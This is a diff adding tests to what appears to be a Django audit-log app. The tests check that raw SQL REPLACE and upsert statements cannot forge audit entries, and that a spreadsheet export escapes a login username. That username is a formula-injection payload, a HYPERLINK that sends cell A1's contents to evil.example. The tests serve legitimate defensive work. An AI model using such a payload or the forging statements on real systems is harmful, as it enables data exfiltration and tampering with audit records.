@@ -143,3 +143,44 @@ def test_audit_list_query_count_is_constant(as_user, auditor, sysadmin, django_a
         department_save(actor=sysadmin, code=f"d{i}", name=f"部门{i}")
     with django_assert_num_queries(len(few.captured_queries)):
         client.get("/audit/")
+
+
+@pytest.mark.skipif(connection.vendor != "sqlite", reason="REPLACE is SQLite's")
+@pytest.mark.parametrize(
+    "verb", ["INSERT OR REPLACE INTO", "REPLACE INTO"], ids=["insert-or-replace", "replace-into"]
+)
+def test_sqlite_refuses_replace_of_a_young_entry(sysadmin, verb):
+    department_save(actor=sysadmin, code="stats", name="统计局")
+    entry = AuditEntry.objects.get()
+    table = AuditEntry._meta.db_table
+    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
+        cursor.execute(
+            f"{verb} {table} (id, at, actor_username, action, object_type, object_id, object_repr, "
+            "changes, detail) VALUES (%s, %s, 'forger', 'login', '', '', '', '{}', 'tampered')",
+            [entry.pk, entry.at],
+        )
+    assert AuditEntry.objects.get().actor_username == "sysadmin"
+
+
+def test_the_database_refuses_an_upsert_over_an_entry(sysadmin):
+    department_save(actor=sysadmin, code="stats", name="统计局")
+    entry = AuditEntry.objects.get()
+    table = AuditEntry._meta.db_table
+    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
+        cursor.execute(
+            f"INSERT INTO {table} (id, at, actor_username, action, object_type, object_id, object_repr, "
+            "changes, detail) VALUES (%s, %s, 'forger', 'login', '', '', '', '{}', '') "
+            "ON CONFLICT (id) DO UPDATE SET detail = 'tampered'",
+            [entry.pk, entry.at],
+        )
+    assert AuditEntry.objects.get().detail == ""
+
+
+def test_a_failed_login_with_a_formula_behind_control_characters_exports_as_text(client, as_user, auditor):
+    username = '\x01=HYPERLINK("http://evil.example/?x="&A1,"点此")'
+    client.post("/accounts/login/", {"username": username, "password": "wrong-Password-1"})
+    response = as_user(auditor).get("/audit/export.xlsx", {"action": "login_failed"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cell = sheet.cell(row=2, column=2)
+    assert cell.data_type == "s"
+    assert cell.value == "'" + username[1:]
